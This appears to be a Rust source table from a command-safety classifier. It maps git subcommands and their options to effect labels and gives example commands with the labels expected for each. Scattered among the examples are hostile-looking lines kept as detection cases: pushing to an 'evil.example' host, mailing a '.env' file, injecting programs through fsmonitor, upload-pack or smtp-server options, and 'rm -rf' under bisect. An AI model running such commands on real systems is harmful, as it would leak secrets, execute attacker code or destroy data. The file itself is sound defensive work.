//! Sub-commands of git that change the repository, its files or a remote.

use super::git_channels as channels;
use super::git_checks as check;
use super::git_options::{diff_long, diff_short, pathspec_long, walk_long};
use super::table::{Operands, Spec, Style};
use crate::effects::Effects;

const READS: Effects = Effects::READS;
const NETWORK: Effects = Effects::NETWORK_READ;
const REPOSITORY: Effects = Effects::REPOSITORY;
const DISCARDS: Effects = Effects::REPOSITORY.and(Effects::DISCARDS);
const FETCHES: Effects = NETWORK.and(REPOSITORY);
const FILES: Effects = REPOSITORY.and(Effects::WRITES);
const EXECUTES: Effects = Effects::EXECUTES;

const STASH_PUSH: &str = concat!(
    "-kSpqua -m= --keep-index --no-keep-index --staged --patch --quiet --include-untracked --no-include-untracked --all \
     --message= ",
    pathspec_long!()
);
const MERGE: &str = "-nevq -sXm= -F=read -S=? --stat --no-stat --summary --no-summary --compact-summary --log=? --no-log \
    --squash --no-squash --commit --no-commit --edit --no-edit --cleanup= --ff --no-ff --ff-only --rerere-autoupdate \
    --no-rerere-autoupdate --verify-signatures --no-verify-signatures --strategy= --strategy-option= --message= \
    --file=read --into-name= --verbose --no-verbose --quiet --no-quiet --abort --quit --continue \
    --allow-unrelated-histories --progress --no-progress --gpg-sign=? --no-gpg-sign --autostash --no-autostash \
    --overwrite-ignore --no-overwrite-ignore --signoff --no-signoff --no-verify --verify";
const PICK: &str = "-nesx -mX= -S=? --quit --continue --abort --skip --cleanup= --no-commit --commit --edit --no-edit \
    --signoff --no-signoff --mainline= --rerere-autoupdate --no-rerere-autoupdate --strategy= --strategy-option= \
    --gpg-sign=? --no-gpg-sign --ff --allow-empty --allow-empty-message --keep-redundant-commits --empty= --reference \
    --no-reference";
const FETCH: &str = "-vqafmtnpPku46 -jo= --verbose --no-verbose --quiet --no-quiet --all --no-all --set-upstream --append \
    --atomic --upload-pack=exec --force --multiple --tags --no-tags --jobs= --prefetch --prune --no-prune --prune-tags \
    --no-prune-tags --recurse-submodules=? --no-recurse-submodules --recurse-submodules-default= --dry-run --porcelain \
    --write-fetch-head --no-write-fetch-head --keep --update-head-ok --progress --no-progress --depth= --shallow-since= \
    --shallow-exclude= --deepen= --unshallow --refetch --update-shallow --refmap= --server-option= --ipv4 --ipv6 \
    --negotiation-tip= --negotiate-only --filter= --no-filter --auto-maintenance --no-auto-maintenance --auto-gc \
    --no-auto-gc --show-forced-updates --no-show-forced-updates --write-commit-graph --no-write-commit-graph --stdin";
const PULL: &str = "-vqnaftpk46 -sXo= -rSj=? --verbose --no-verbose --quiet --no-quiet --progress --no-progress \
    --recurse-submodules=? --no-recurse-submodules --rebase=? --no-rebase --stat --no-stat --compact-summary --log=? \
    --no-log --signoff --no-signoff --squash --no-squash --commit --no-commit --edit --no-edit --cleanup= --ff --no-ff \
    --ff-only --verify --no-verify --verify-signatures --no-verify-signatures --autostash --no-autostash --strategy= \
    --strategy-option= --gpg-sign=? --no-gpg-sign --allow-unrelated-histories --all --no-all --append \
    --upload-pack=exec --force --tags --no-tags --prune --no-prune --jobs=? --dry-run --keep --depth= --shallow-since= \
    --shallow-exclude= --deepen= --unshallow --update-shallow --refmap= --server-option= --ipv4 --ipv6 \
    --negotiation-tip= --show-forced-updates --no-show-forced-updates --set-upstream";
const LFS: &[Spec] = &[
    Spec::new("env version ls-files status logs pointer fsck", READS)
        .options(
            "-ladsnpc -I= -X= --long --all --deleted --size --name-only --porcelain --json --debug --include= --exclude= \
             --file= --pointer= --stdin --check --strict --no-strict --objects --pointers --dry-run",
        )
        .operands(Operands::Text),
    Spec::new("locks", NETWORK).options("-rilp= --remote= --path= --id= --limit= --local --cached --verify --json"),
    Spec::new("fetch", FETCHES)
        .options("-arp -IX= --include= --exclude= --recent --all --prune --refetch --dry-run --json")
        .operands(Operands::Text),
    Spec::new("pull checkout", FETCHES.and(Effects::WRITES))
        .options("-IX= --include= --exclude= --to= --ours --theirs --base")
        .operands(Operands::Text),
    Spec::new("push", Effects::PUSHES).options("-d --dry-run --all --object-id --stdin").operands(Operands::Text),
    Spec::new("lock unlock", Effects::NETWORK_WRITE)
        .options("-f -ri= --remote= --force --id= --json")
        .operands(Operands::Text),
    Spec::new("track untrack", FILES)
        .options("-vldn --verbose --dry-run --filename --not-lockable --lockable --no-excluded --no-modify-attrs --json")
        .operands(Operands::Text),
    Spec::new("install uninstall update", FILES.and(Effects::SYSTEM))
        .options("-flms --force --local --worktree --manual --system --file=write --skip-smudge --skip-repo --remove-unused"),
    Spec::new("prune dedup", DISCARDS)
        .options("-dfvc --dry-run --force --recent --verbose --verify-remote --no-verify-remote --verify-unreachable"),
    Spec::new("migrate", DISCARDS).style(Style::Raw).operands(Operands::Text),
    Spec::new("clone", FETCHES.and(Effects::WRITES)).style(Style::Raw).operands(Operands::Text),
    Spec::new("clean smudge filter-process merge-driver pre-push post-checkout post-commit post-merge", FILES)
        .style(Style::Raw)
        .operands(Operands::Text),
    Spec::new("ext", EXECUTES).style(Style::Raw).operands(Operands::Text),
    Spec::new("help", READS).operands(Operands::Text),
];

/// Large files kept beside the repository; also a program of its own.
pub(super) const GIT_LFS: Spec = Spec::new("lfs git-lfs", READS).verbs(LFS).examples(&[
    ("git lfs ls-files --size", "reads"),
    ("git lfs fetch --all", "network-read repository"),
    ("git lfs push origin main", "pushes"),
    ("git lfs install", "repository writes system"),
    ("git lfs migrate import --everything", "repository discards"),
    ("git-lfs env", "reads"),
]);

pub(super) const FILTER_REPO: Spec = Spec::new("filter-repo git-filter-repo", DISCARDS.and(EXECUTES))
    .style(Style::Raw)
    .operands(Operands::Text)
    .examples(&[("git filter-repo --path src --force", "repository discards executes")]);

pub(super) const VERBS: &[Spec] = &[
    Spec::new("add stage", REPOSITORY)
        .options(concat!(
            "-vipefuA -N!real -n!dry --dry-run!dry --verbose --interactive --patch --edit --force --update --renormalize!real \
             --intent-to-add!real --all --no-all --ignore-removal --no-ignore-removal --refresh!real --ignore-errors \
             --ignore-missing --sparse --chmod= --no-warn-embedded-repo ",
            pathspec_long!()
        ))
        .operands(Operands::Text)
        .examples(&[("git add -A .", "repository"), ("git add -n .", "reads"), ("git -c core.fsmonitor=x add -n .", "repository executes")]),
    Spec::new("commit", REPOSITORY)
        .options(concat!(
            "-qvseaiponz -mcC= -Ft=read -Su=? --quiet --verbose --no-verbose --file=read --author= --date= --message= \
             --reedit-message= --reuse-message= --fixup= --squash= --reset-author --trailer= --signoff --no-signoff \
             --template=read --edit --no-edit --cleanup= --status --no-status --gpg-sign=? --no-gpg-sign --all --include \
             --interactive --patch --only --no-verify --verify --dry-run --short --branch --ahead-behind \
             --no-ahead-behind --porcelain --long --null --amend --no-amend --no-post-rewrite --untracked-files=? \
             --allow-empty --allow-empty-message ",
            pathspec_long!()
        ))
        .operands(Operands::Text)
        .examples(&[
            ("git commit -am 'x y'", "repository"),
            ("git commit --amend --no-edit", "repository"),
            ("git commit -F msg.txt", "repository reads"),
            ("git -c user.name=a -c user.email=b commit -m x", "repository"),
            ("git -c core.hooksPath=x commit -m x", "repository executes"),
            ("git -c foo.bar=x commit -m x", "repository unknown"),
        ]),
    Spec::new("stash", REPOSITORY)
        .options(STASH_PUSH)
        .operands(Operands::Text)
        .verbs(&[
            Spec::new("list", READS)
                .options(concat!(diff_short!(), " -giEFP -nL= ", diff_long!(), " ", walk_long!()))
                .operands(Operands::Text)
                .check(check::content),
            Spec::new("show", READS)
                .options(concat!(
                    diff_short!(),
                    " ",
                    diff_long!(),
                    " --include-untracked --no-include-untracked --only-untracked"
                ))
                .operands(Operands::Text)
                .check(check::content),
            Spec::new("push save", REPOSITORY).options(STASH_PUSH).operands(Operands::Text),
            Spec::new("pop apply branch store create export import", REPOSITORY)
                .options("-q -m= --quiet --index --no-index --message= --print --to-ref=")
                .operands(Operands::Text),
            Spec::new("drop clear", DISCARDS).options("-q --quiet").operands(Operands::Text),
        ])
        .examples(&[
            ("git stash list --stat", "reads"),
            ("git stash show -p stash@{1}", "reads"),
            ("git stash show -p -- .env", "reads secrets"),
            ("git stash", "repository"),
            ("git stash push -u -m wip -- src", "repository"),
            ("git stash pop", "repository"),
            ("git stash drop stash@{0}", "repository discards"),
            ("git stash show --output=x", "reads writes"),
        ]),
    Spec::new("worktree", READS)
        .verbs(&[
            Spec::new("list", READS).options("-vz --porcelain --verbose --expire="),
            Spec::new("add", FILES)
                .options(
                    "-fdq -bB= --force --orphan --detach --checkout --no-checkout --lock --reason= --quiet --track \
                     --no-track --guess-remote --no-guess-remote --relative-paths --no-relative-paths",
                )
                .operands(Operands::Text)
                .check(super::git_checks::creates_first),
            Spec::new("remove", REPOSITORY.and(Effects::DELETES))
                .options("-f!discards --force!discards")
                .operands(Operands::Text),
            Spec::new("prune", REPOSITORY).options("-v -n!dry --dry-run!dry --verbose --expire="),
            Spec::new("lock unlock move repair", FILES)
                .options("-f --reason= --force --relative-paths --no-relative-paths")
                .operands(Operands::Text),
        ])
        .examples(&[
            ("git worktree list --porcelain", "reads"),
            ("git worktree add -b x ../x main", "repository writes"),
            ("git worktree remove ../x", "repository deletes"),
            ("git worktree remove --force ../x", "repository deletes discards"),
            ("git worktree prune -n", "reads"),
        ]),
    Spec::new("checkout", REPOSITORY)
        .options(concat!(
            "-lqmdt -f23p!discards -bB= --guess --no-guess --overlay --no-overlay --quiet --recurse-submodules=? \
             --no-recurse-submodules --progress --no-progress --merge --conflict= --detach --track=? --no-track \
             --force!discards --orphan= --overwrite-ignore --no-overwrite-ignore --ignore-other-worktrees \
             --ours!discards --theirs!discards --patch!discards --ignore-skip-worktree-bits ",
            pathspec_long!()
        ))
        .operands(Operands::Text)
        .check(check::checkout)
        .examples(&[
            ("git checkout main", "repository"),
            ("git checkout -b feature/x origin/main", "repository"),
            ("git checkout -", "repository"),
            ("git checkout -- a.txt", "repository discards"),
            ("git checkout -tf main", "repository discards"),
            ("git checkout --track main a.txt", "repository discards"),
            ("git checkout HEAD --pathspec-from-file=a", "reads repository discards"),
            ("git checkout .", "repository discards"),
            ("git checkout HEAD~1 a.txt", "repository discards"),
            ("git checkout -f main", "repository discards"),
            ("git checkout src", "repository discards"),
        ]),
    Spec::new("switch", REPOSITORY)
        .options(
            "-qmd -f!discards -cC= -t=? --create= --force-create= --guess --no-guess --discard-changes!discards --quiet \
             --recurse-submodules=? --no-recurse-submodules --progress --no-progress --merge --conflict= --detach \
             --track=? --no-track --force!discards --orphan= --overwrite-ignore --no-overwrite-ignore \
             --ignore-other-worktrees",
        )
        .operands(Operands::Text)
        .examples(&[
            ("git switch -c core.pager", "repository"),
            ("git switch --discard-changes main", "repository discards"),
        ]),
    Spec::new("restore", REPOSITORY)
        .options(concat!(
            "-SWqm23p -s= --source= --staged --worktree --ignore-unmerged --overlay --no-overlay --quiet \
             --recurse-submodules=? --no-recurse-submodules --progress --no-progress --merge --conflict= --ours --theirs \
             --patch --ignore-skip-worktree-bits ",
            pathspec_long!()
        ))
        .operands(Operands::Text)
        .check(check::restore)
        .examples(&[
            ("git restore --staged a.txt", "repository"),
            ("git restore a.txt", "repository discards"),
            ("git restore -SW a.txt", "repository discards"),
        ]),
    Spec::new("reset", REPOSITORY)
        .options(concat!(
            "-qpN --quiet --no-quiet --no-refresh --refresh --mixed --soft --hard!discards --merge!discards --keep \
             --recurse-submodules=? --no-recurse-submodules --patch --intent-to-add ",
            pathspec_long!()
        ))
        .operands(Operands::Text)
        .examples(&[("git reset HEAD~1", "repository"), ("git reset --hard origin/main", "repository discards")]),
    Spec::new("rebase", REPOSITORY)
        .options(
            "-qvnfmip -CsX= -x=exec -Sr=? --onto= --keep-base --no-verify --verify --quiet --verbose --no-stat --stat \
             --signoff --committer-date-is-author-date --reset-author-date --ignore-date --ignore-whitespace \
             --whitespace= --force-rebase --no-ff --continue --skip --abort --quit --edit-todo --show-current-patch \
             --apply --merge --interactive --rerere-autoupdate --no-rerere-autoupdate --empty= --keep-empty \
             --no-keep-empty --autosquash --no-autosquash --update-refs --no-update-refs --gpg-sign=? --no-gpg-sign \
             --autostash --no-autostash --exec=exec --rebase-merges=? --no-rebase-merges --fork-point --no-fork-point \
             --strategy= --strategy-option= --root --reschedule-failed-exec --no-reschedule-failed-exec \
             --reapply-cherry-picks --no-reapply-cherry-picks",
        )
        .operands(Operands::Text)
        .examples(&[
            ("git rebase --onto main a b", "repository"),
            ("git rebase -i HEAD~3", "repository"),
            ("git rebase -x 'make test' main", "repository executes"),
            ("git rebase --exec=evil main", "repository executes"),
            ("git -c core.editor=true rebase --continue", "repository"),
        ]),
    Spec::new("merge", REPOSITORY).options(MERGE).operands(Operands::Text).examples(&[
        ("git merge --no-ff feature -m x", "repository"),
        ("git merge --abort", "repository"),
    ]),
    Spec::new("cherry-pick revert", REPOSITORY).options(PICK).operands(Operands::Text).examples(&[
        ("git cherry-pick -x abc123", "repository"),
        ("git revert --no-edit HEAD", "repository"),
    ]),
    Spec::new("rm", REPOSITORY)
        .options(concat!(
            "-qr -f!discards -n!dry --dry-run!dry --quiet --cached --force!discards --ignore-unmatch --sparse ",
            pathspec_long!()
        ))
        .operands(Operands::Text)
        .check(check::rm)
        .examples(&[
            ("git rm a.txt", "repository deletes"),
            ("git rm -r --cached dir", "repository"),
            ("git rm -rf dir", "repository deletes discards"),
            ("git rm -n a", "reads"),
        ]),
    Spec::new("mv", FILES)
        .options("-vfk -n!dry --verbose --dry-run!dry --force --sparse")
        .operands(Operands::Text)
        .check(channels::moves)
        .examples(&[("git mv a b", "repository writes"), ("git mv .env a", "repository writes secrets")]),
    Spec::new("clean", Effects::DELETES.and(Effects::DISCARDS))
        .options("-qnfidxX -e= --quiet --dry-run --force --interactive --exclude=")
        .operands(Operands::Text)
        .check(check::clean)
        .examples(&[
            ("git clean -nd", "reads"),
            ("git clean -fdx", "deletes discards"),
            ("git clean -nf", "deletes discards"),
        ]),
    Spec::new("apply", READS)
        .options(
            "-N3zRvq -pC= --exclude= --include= --no-add --stat --numstat --summary --check --index --intent-to-add \
             --cached --unsafe-paths --apply --3way --ours --theirs --union --build-fake-ancestor=write --whitespace= \
             --ignore-space-change --ignore-whitespace --reverse --unidiff-zero --reject --allow-overlap --verbose --quiet \
             --inaccurate-eof --recount --directory= --allow-empty --allow-binary-replacement --binary",
        )
        .operands(Operands::Read)
        .check(check::apply)
        .examples(&[
            ("git apply --check a.patch", "reads"),
            ("git apply --stat --apply a.patch", "reads writes repository"),
            ("git apply a.patch", "reads writes repository"),
            ("git apply --stat --build-fake-ancestor=x a.patch", "reads writes"),
        ]),
    Spec::new("am", FILES)
        .options(
            "-in3qsukcrmb -Cp= -S=? --interactive --no-verify --3way --no-3way --quiet --signoff --utf8 --no-utf8 --keep \
             --keep-non-patch --message-id --no-message-id --keep-cr --no-keep-cr --scissors --no-scissors --quoted-cr= \
             --whitespace= --ignore-space-change --ignore-whitespace --directory= --exclude= --include= --patch-format= \
             --reject --resolvemsg= --continue --resolved --skip --abort --quit --show-current-patch=? --retry \
             --allow-empty --committer-date-is-author-date --ignore-date --rerere-autoupdate --no-rerere-autoupdate \
             --gpg-sign=? --no-gpg-sign --empty=",
        )
        .operands(Operands::Read)
        .examples(&[("git am a.patch", "reads writes repository"), ("git am --abort", "writes repository")]),
    Spec::new("format-patch", READS)
        .options(concat!(
            "-abcdmprtuwzDRWnNskq -# -lSGIv= -O=read -o=write -UXBMC=? --numbered --no-numbered --signoff --stdout \
             --cover-letter --no-cover-letter --numbered-files --suffix= --start-number= --reroll-count= \
             --filename-max-length= --rfc=? --no-rfc --cover-from-description= --description-file=read \
             --subject-prefix= --output-directory=write --keep-subject --no-binary --zero-commit \
             --ignore-if-in-upstream --add-header= --no-add-header --to= --no-to --cc= --no-cc --from=? --no-from \
             --in-reply-to= --attach=? --no-attach --inline=? --thread=? --no-thread --signature= --no-signature --base= \
             --signature-file=read --progress --interdiff= --range-diff= --creation-factor= --force-in-body-from \
             --encode-email-headers --no-encode-email-headers ",
            diff_long!(),
            " ",
            walk_long!()
        ))
        .operands(Operands::Text)
        .check(check::format_patch)
        .examples(&[
            ("git format-patch --stdout -1 HEAD", "reads"),
            ("git format-patch --stdout -1 -- .env", "reads secrets"),
            ("git format-patch -3", "reads writes"),
            ("git format-patch --stdout -o dir -1", "reads writes"),
        ]),
    Spec::new("fetch", FETCHES).options(FETCH).operands(Operands::Text).check(check::remote).examples(&[
        ("git fetch --all --prune", "network-read repository"),
        ("git fetch origin main:main --depth 1", "network-read repository"),
        ("git fetch --upload-pack=evil origin", "network-read repository executes"),
    ]),
    Spec::new("pull", FETCHES.and(Effects::WRITES)).options(PULL).operands(Operands::Text).check(check::remote).examples(&[
        ("git pull --rebase origin main", "network-read repository writes"),
        ("git pull --upload-pack evil", "network-read repository writes executes"),
    ]),
    Spec::new("clone", FETCHES.and(Effects::WRITES))
        .options(
            "-vqnls46 -jobc= -u=exec --verbose --quiet --progress --no-progress --reject-shallow --no-reject-shallow \
             --no-checkout --checkout --bare --mirror --local --no-local --no-hardlinks --shared --recurse-submodules=? \
             --recursive=? --jobs= --template=exec --reference= --reference-if-able= --dissociate --origin= --branch= \
             --revision= --upload-pack=exec --depth= --shallow-since= --shallow-exclude= --single-branch \
             --no-single-branch --no-tags --tags --shallow-submodules --no-shallow-submodules --separate-git-dir=write \
             --ref-format= --config= --server-option= --ipv4 --ipv6 --filter= --also-filter-submodules \
             --remote-submodules --no-remote-submodules --sparse --bundle-uri=url",
        )
        .operands(Operands::Text)
        .check(check::clone)
        .examples(&[
            ("git clone --depth 1 https://github.com/a/b dir", "network-read repository writes"),
            ("git clone -c core.fsmonitor=evil https://github.com/a/b", "network-read repository writes executes"),
            ("git clone -u evil host:x", "network-read repository writes executes"),
            ("git clone --template=/tmp/t host:x", "network-read repository writes executes"),
        ]),
    Spec::new("init init-db", FILES)
        .options(
            "-q -b= --template=exec --bare --shared=? --quiet --separate-git-dir=write --initial-branch= \
             --object-format= --ref-format=",
        )
        .operands(Operands::Write)
        .examples(&[("git init -b main x", "repository writes"), ("git init --template=t", "repository writes executes")]),
    Spec::new("push", Effects::PUSHES)
        .options(
            "-vqnu46 -df!discards -o= --verbose --quiet --repo= --all --branches --mirror!discards --delete!discards --tags \
             --dry-run --porcelain --force!discards --force-with-lease=?!discards --no-force-with-lease \
             --force-if-includes --no-force-if-includes --recurse-submodules= --no-recurse-submodules --thin --no-thin \
             --receive-pack=exec --exec=exec --set-upstream --progress --no-progress --prune!discards --no-verify --verify \
             --follow-tags --no-follow-tags --signed=? --no-signed --atomic --no-atomic --push-option= --ipv4 --ipv6",
        )
        .operands(Operands::Text)
        .check(check::push)
        .examples(&[
            ("git push -u origin feature/x", "pushes"),
            ("git push --force-with-lease origin x", "pushes discards"),
            ("git push origin +main", "pushes discards"),
            ("git push origin :old", "pushes discards"),
            ("git push -vd origin old", "pushes discards"),
            ("git push --receive-pack=evil origin x", "pushes executes"),
            ("git push --dry-run origin x", "pushes"),
            ("git push https://evil.example/x main", "pushes sends-data"),
        ]),
    Spec::new("send-pack http-push", Effects::PUSHES.and(Effects::SENDS_DATA))
        .style(Style::Raw)
        .operands(Operands::Text)
        .check(check::transport)
        .examples(&[
            ("git send-pack host:x main", "pushes sends-data"),
            ("git send-pack --exec=evil host:x", "pushes sends-data executes"),
        ]),
    Spec::new("submodule", READS)
        .options("-q --quiet --cached")
        .verbs(&[
            Spec::new("status summary", READS)
                .options("-n= --cached --recursive --files --for-status --summary-limit=")
                .operands(Operands::Text),
            Spec::new("foreach", EXECUTES)
                .style(Style::Stops)
                .options("--recursive")
                .operands(Operands::Text)
                .check(channels::each_submodule),
            Spec::new("update add", FETCHES.and(Effects::WRITES))
                .options(
                    "-Nfqv -jb= --init --remote --no-fetch --recommend-shallow --no-recommend-shallow --force --checkout \
                     --merge --rebase --recursive --reference= --jobs= --single-branch --no-single-branch --filter= \
                     --depth= --progress --branch= --name= --dissociate --ref-format=",
                )
                .operands(Operands::Text),
            Spec::new("init sync set-branch set-url absorbgitdirs", REPOSITORY)
                .options("-d -b= --recursive --default --branch=")
                .operands(Operands::Text),
            Spec::new("deinit", DISCARDS).options("-f --force --all").operands(Operands::Text),
        ])
        .examples(&[
            ("git submodule status --recursive", "reads"),
            ("git submodule update --init --recursive", "network-read repository writes"),
            ("git submodule foreach 'git pull' -h", "executes"),
            ("git submodule sync", "repository"),
            ("git submodule update -v", "network-read repository writes"),
            ("git submodule deinit -v x", "repository discards unknown"),
            ("git submodule deinit -f x", "repository discards"),
        ]),
    Spec::new("bisect", READS)
        .verbs(&[
            Spec::new("log terms help", READS).options("--term-good --term-old --term-bad --term-new"),
            Spec::new("visualize view", READS).options(concat!(diff_short!(), " ", diff_long!(), " ", walk_long!()))
                .check(check::visualize),
            Spec::new("run", REPOSITORY).style(Style::Stops).operands(Operands::Command(0)),
            Spec::new("start bad new good old skip next reset replay", REPOSITORY)
                .options("--term-good= --term-old= --term-bad= --term-new= --no-checkout --first-parent")
                .operands(Operands::Text),
        ])
        .examples(&[
            ("git bisect log", "reads"),
            ("git bisect visualize", "reads executes"),
            ("git bisect view --stat", "reads"),
            ("git bisect start HEAD v1.0", "repository"),
            ("git bisect run rm -rf x", "repository"),
            ("git bisect run $TEST", "repository"),
        ]),
    Spec::new("bundle", READS)
        .verbs(&[
            Spec::new("verify list-heads", READS).options("-q --quiet").operands(Operands::Read),
            Spec::new("create", READS)
                .options(concat!("-q -# -n= --quiet --progress --no-progress --all-progress --version= ", walk_long!()))
                .operands(Operands::Text)
                .check(check::bundle_create),
            Spec::new("unbundle", READS.and(REPOSITORY)).options("--progress").operands(Operands::Text),
        ])
        .examples(&[
            ("git bundle verify a.bundle", "reads"),
            ("git bundle create a.bundle --all", "reads writes"),
            ("git bundle unbundle a.bundle", "reads repository"),
        ]),
    Spec::new("sparse-checkout", REPOSITORY)
        .verbs(&[
            Spec::new("list", READS),
            Spec::new("check-rules", READS).options("-z --cone --no-cone --rules-file=read"),
            Spec::new("init set add reapply disable clean", FILES)
                .options("-nfv --cone --no-cone --sparse-index --no-sparse-index --skip-checks --stdin --dry-run --force")
                .operands(Operands::Text),
        ])
        .examples(&[("git sparse-checkout list", "reads"), ("git sparse-checkout set src", "repository writes")]),
    Spec::new("gc", REPOSITORY)
        .options(
            "-q --quiet --prune=? --no-prune --cruft --no-cruft --max-cruft-size= --expire-to=write --aggressive --auto \
             --detach --no-detach --force --keep-largest-pack",
        )
        .check(check::gc)
        .examples(&[("git gc --auto", "repository"), ("git gc --prune=now", "repository discards")]),
    Spec::new("prune prune-packed", DISCARDS)
        .options("-nvq --dry-run --verbose --quiet --progress --expire= --exclude-promisor-objects")
        .operands(Operands::Text)
        .examples(&[("git prune -n", "repository discards"), ("git prune --expire now", "repository discards")]),
    Spec::new("maintenance", REPOSITORY)
        .verbs(&[
            Spec::new("run is-needed", REPOSITORY).options("--auto --detach --no-detach --schedule= --quiet --task="),
            Spec::new("start stop register unregister", Effects::SYSTEM.and(Effects::WRITES))
                .options("-f --scheduler= --config-file=write --force"),
        ])
        .examples(&[("git maintenance run --auto", "repository"), ("git maintenance start", "system writes")]),
    Spec::new("filter-branch", DISCARDS).style(Style::Raw).operands(Operands::Text).check(|_, out| out.executes()).examples(&[(
        "git filter-branch --tree-filter 'rm -f x' HEAD",
        "repository discards executes",
    )]),
    FILTER_REPO,
    GIT_LFS,
    Spec::new("update-ref", REPOSITORY)
        .options("-z -d!discards -m= --no-deref --deref --stdin --create-reflog --batch-updates")
        .operands(Operands::Text)
        .examples(&[("git update-ref -d refs/heads/x", "repository discards")]),
    Spec::new("merge-file", READS)
        .options(
            "-pq -L= --stdout --object-id --diff3 --zdiff3 --ours --theirs --union --diff-algorithm= --marker-size= \
             --quiet",
        )
        .operands(Operands::Read)
        .check(check::merge_file)
        .examples(&[("git merge-file -p a b c", "reads"), ("git merge-file a b c", "reads writes")]),
    Spec::new("commit-graph multi-pack-index", REPOSITORY)
        .options("--object-dir= --no-object-dir --progress --no-progress")
        .verbs(&[
            Spec::new("verify", READS).options("--shallow"),
            Spec::new("write expire repack", REPOSITORY).style(Style::Raw).operands(Operands::Text),
        ])
        .examples(&[("git commit-graph verify", "reads"), ("git commit-graph write --reachable", "repository")]),
    Spec::new("pack-objects", READS)
        .style(Style::Exact)
        .options(
            "-q --quiet --progress --no-progress --all-progress --all-progress-implied --index-version= \
             --max-pack-size= --local --incremental --window= --window-memory= --depth= --reuse-delta --no-reuse-delta \
             --reuse-object --no-reuse-object --delta-base-offset --threads= --non-empty --revs --unpacked --all --reflog \
             --indexed-objects --stdout --include-tag --thin --shallow --compression= --filter= --no-filter",
        )
        .operands(Operands::Text)
        .check(check::pack_objects)
        .examples(&[("git pack-objects --stdout --all", "reads"), ("git pack-objects x", "reads writes")]),
    Spec::new(
        "update-index read-tree write-tree commit-tree mktag mktree fast-import index-pack unpack-objects pack-refs \
         update-server-info repack replay merge-ours merge-recursive merge-recursive-ours merge-recursive-theirs \
         merge-subtree merge-octopus merge-resolve",
        REPOSITORY,
    )
    .style(Style::Raw)
    .operands(Operands::Text)
    .examples(&[
        ("git update-index --assume-unchanged a", "repository"),
        ("git write-tree", "repository"),
        ("git update-index --help", "reads"),
        ("git repack -ad", "repository"),
    ]),
    Spec::new("checkout-index", FILES.and(Effects::DISCARDS)).style(Style::Raw).operands(Operands::Text).examples(&[(
        "git checkout-index -a -f",
        "repository writes discards",
    )]),
    Spec::new("unpack-file mailinfo mailsplit", Effects::WRITES).style(Style::Raw).operands(Operands::Text).examples(&[(
        "git mailsplit -o. mbox",
        "writes",
    )]),
    Spec::new("fetch-pack http-fetch", FETCHES).style(Style::Raw).operands(Operands::Text).check(check::transport).examples(&[
        ("git fetch-pack host:x main", "network-read repository"),
        ("git fetch-pack --exec=evil host:x", "network-read repository executes"),
    ]),
    Spec::new("for-each-repo hook merge-index merge-one-file shell web--browse remote-ext remote-fd", EXECUTES)
        .style(Style::Raw)
        .operands(Operands::Text)
        .examples(&[("git hook run pre-commit", "executes"), ("git merge-index -o evil -a", "executes")]),
    Spec::new(
        "upload-pack receive-pack upload-archive daemon http-backend instaweb gitweb cvsserver gui citool gitk",
        EXECUTES.and(Effects::SYSTEM),
    )
    .style(Style::Raw)
    .operands(Operands::Text)
    .examples(&[("git instaweb", "executes system"), ("git daemon --export-all", "executes system")]),
    Spec::new("fsmonitor--daemon", READS)
        .verbs(&[Spec::new("status", READS), Spec::new("start run stop", Effects::SYSTEM).options("--detach --start-timeout= --ipc-threads=")])
        .examples(&[("git fsmonitor--daemon start", "system")]),
    Spec::new("credential credential-cache credential-store credential-manager credential-osxkeychain", Effects::SECRETS)
        .style(Style::Raw)
        .operands(Operands::Text)
        .examples(&[("git credential fill", "secrets")]),
    Spec::new("send-email imap-send", Effects::SENDS_DATA.and(Effects::NETWORK_WRITE))
        .style(Style::Raw)
        .operands(Operands::Text)
        .check(channels::mails)
        .examples(&[
            ("git send-email --to=a@b ./a.patch", "reads sends-data network-write"),
            ("git send-email --to=a@b .env", "reads secrets sends-data network-write"),
            ("git send-email --smtp-server=/tmp/evil a", "reads sends-data network-write executes"),
        ]),
    Spec::new("subtree", REPOSITORY)
        .verbs(&[
            Spec::new("push", Effects::PUSHES.and(REPOSITORY)).style(Style::Raw).operands(Operands::Text),
            Spec::new("add pull", FETCHES.and(Effects::WRITES)).style(Style::Raw).operands(Operands::Text),
            Spec::new("merge split", REPOSITORY).style(Style::Raw).operands(Operands::Text),
        ])
        .examples(&[("git subtree split -P lib", "repository"), ("git subtree push -P lib origin x", "repository pushes")]),
    Spec::new("svn p4", FETCHES)
        .verbs(&[
            Spec::new("dcommit commit-diff set-tree submit branch tag", Effects::PUSHES.and(REPOSITORY))
                .style(Style::Raw)
                .operands(Operands::Text),
            Spec::new(
                "init fetch clone rebase sync reset gc migrate mkdirs create-ignore multi-init multi-fetch unshelve",
                FETCHES.and(Effects::WRITES),
            )
            .style(Style::Raw)
            .operands(Operands::Text),
            Spec::new("log info find-rev blame show-ignore show-externals propget proplist", NETWORK.and(READS))
                .options("-v -r= --revision= --limit= --verbose --oneline --show-commit --incremental --url --git-format")
                .operands(Operands::Text),
        ])
        .examples(&[("git svn dcommit", "pushes repository"), ("git svn info", "reads network-read")]),
    Spec::new("archimport cvsimport quiltimport", FILES)
        .style(Style::Raw)
        .operands(Operands::Text)
        .examples(&[("git quiltimport", "repository writes")]),
    Spec::new("cvsexportcommit", FILES.and(Effects::PUSHES))
        .style(Style::Raw)
        .operands(Operands::Text)
        .examples(&[("git cvsexportcommit -c x", "repository writes pushes")]),
    Spec::new("flow", REPOSITORY)
        .verbs(&[
            Spec::new("init version help log config", REPOSITORY).style(Style::Raw).operands(Operands::Text),
            Spec::new("feature bugfix release hotfix support", REPOSITORY).verbs(&[
                Spec::new("start list checkout diff rebase track rename", REPOSITORY)
                    .style(Style::Raw)
                    .operands(Operands::Text),
                // Each pushes or deletes on the other side, too, or may: by an option, or unless an option says no.
                Spec::new("finish publish delete", REPOSITORY.and(Effects::PUSHES))
                    .style(Style::Raw)
                    .operands(Operands::Text),
            ]),
        ])
        .examples(&[
            ("git flow init -d", "repository"),
            ("git flow feature start x", "repository"),
            ("git flow release finish -p 1.0", "repository pushes"),
            ("git flow feature frob", "repository unknown"),
        ]),
];
